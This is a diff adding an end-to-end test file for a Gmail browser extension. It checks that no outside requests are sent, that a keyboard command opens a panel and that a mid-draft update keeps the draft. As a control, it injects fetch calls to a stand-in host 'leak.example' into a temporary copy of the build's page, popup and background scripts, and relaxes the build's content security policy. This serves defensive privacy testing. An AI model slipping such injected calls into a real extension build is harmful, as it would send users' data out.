@@ -1,0 +1,119 @@
+/** Commands, orphans, and the promise that nothing leaves the computer. */
+import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { describe, expect, it } from 'vitest';
+import { type ExtensionBrowser, until } from '../driver.ts';
+import { browserFor, buildOf, type Kind, launch, Mailbox, settle } from '../house.ts';
+
+/** Every part of the extension at work once. */
+async function walk(browser: ExtensionBrowser): Promise<void> {
+  const box = await Mailbox.open(browser, 'gmail');
+  await box.read(/^Offer of employment/);
+  await box.page.shows('banner');
+  await box.reply();
+  await box.page.shows('compose-button');
+  const page = await browser.openOwn('src/popup/index.html');
+  await page.see(/\S/);
+  await page.close();
+  const full = await browser.openOwn('src/options/index.html#/companies');
+  await full.see(/\S/);
+  await full.close();
+}
+
+/** Requests that the stage itself does not need. */
+async function foreign(browser: ExtensionBrowser): Promise<string[]> {
+  await settle(500);
+  const seen = await browser.requests();
+  return seen
+    .map(({ url }) => url)
+    .filter((url) => !/^https:\/\/mail\.google\.com\/(mail\/|stage\/|favicon)/.test(url));
+}
+
+/** A copy of the build that sends a request from its page part, its popup and its background. */
+function cheatingBuild(kind: Kind): string {
+  const folder = mkdtempSync(join(tmpdir(), 'dg-cheat-'));
+  cpSync(buildOf(kind), folder, { recursive: true });
+  const cheat = (file: string, where: string) => {
+    const path = join(folder, file);
+    writeFileSync(path, `${readFileSync(path, 'utf8')}\n;fetch('https://leak.example/${where}').catch(() => 0);\n`);
+  };
+  cheat('src/content/index.js', 'page');
+  cheat('service-worker-loader.js', 'background');
+  writeFileSync(join(folder, 'cheat.js'), "fetch('https://leak.example/popup').catch(() => 0);\n");
+  const popup = join(folder, 'src/popup/index.html');
+  writeFileSync(popup, readFileSync(popup, 'utf8').replace('</head>', '<script src="/cheat.js"></script></head>'));
+  const manifest = join(folder, 'manifest.json');
+  // The policy of the honest build stops such requests by itself; the control is about the witness.
+  const open = JSON.parse(readFileSync(manifest, 'utf8')) as { content_security_policy: { extension_pages: string } };
+  open.content_security_policy.extension_pages = "default-src 'self'; connect-src *";
+  writeFileSync(manifest, JSON.stringify(open));
+  return folder;
+}
+
+export function trust(kind: Kind): void {
+  const browser = browserFor(kind);
+
+  it('sends no request, and a build that does is seen doing it', async () => {
+    await browser.get().requests();
+    await walk(browser.get());
+    expect(await foreign(browser.get())).toEqual([]);
+    const folder = cheatingBuild(kind);
+    const cheat = await launch(kind, { build: folder });
+    try {
+      // A page without a policy: what its own policy stops would never be a request.
+      cheat.serve((url) => (url.host === 'mail.google.com' ? { body: '<!doctype html><body>plain' } : null));
+      await cheat.open('https://mail.google.com/mail/u/0/');
+      const page = await cheat.openOwn('src/popup/index.html');
+      await page.see(/\S/);
+      const leaks = new Set<string>();
+      await until('the three leaks', async () => {
+        for (const { url } of await cheat.requests()) if (url.includes('leak.example')) leaks.add(url);
+        return leaks.size === 3;
+      });
+    } finally {
+      await cheat.close();
+      rmSync(folder, { recursive: true, force: true });
+    }
+  });
+
+  describe('keyboard commands', () => {
+    it('open the panel in the page', async () => {
+      const box = await Mailbox.open(browser.get(), 'gmail');
+      await box.read(/^Offer of employment/);
+      await box.page.shows('banner');
+      await browser.get().command('open-panel');
+      await box.page.shows('panel');
+    });
+  });
+
+  describe('an update while a mail is open', () => {
+    it('leaves one button, the draft as it was, and no error in the page', async () => {
+      const box = await Mailbox.open(browser.get(), 'gmail');
+      await box.read(/^Offer of employment/);
+      await box.page.shows('banner');
+      await box.reply();
+      await box.page.shows('compose-button');
+      await box.page.clickOn(box.places.editor);
+      await box.page.type('my own words');
+      await box.page.evaluate(() => {
+        const log = window as unknown as { errors: string[] };
+        log.errors = [];
+        addEventListener('error', (event) => log.errors.push(String(event.message)));
+        addEventListener('unhandledrejection', (event) => log.errors.push(String(event.reason)));
+      });
+      await browser.get().reloadExtension();
+      await settle(1_000);
+      await box.page.clickOn(box.places.editor);
+      await box.page.type('!');
+      await settle(1_000);
+      expect(await box.page.count('compose-button')).toBeLessThanOrEqual(1);
+      const [draft = ''] = await box.drafts();
+      expect(draft).toContain('my own words');
+      expect(draft).toContain('!');
+      expect(await box.page.evaluate(() => (window as unknown as { errors: string[] }).errors)).toEqual([]);
+      await box.page.reload();
+      await box.page.shows('banner');
+    });
+  });
+}
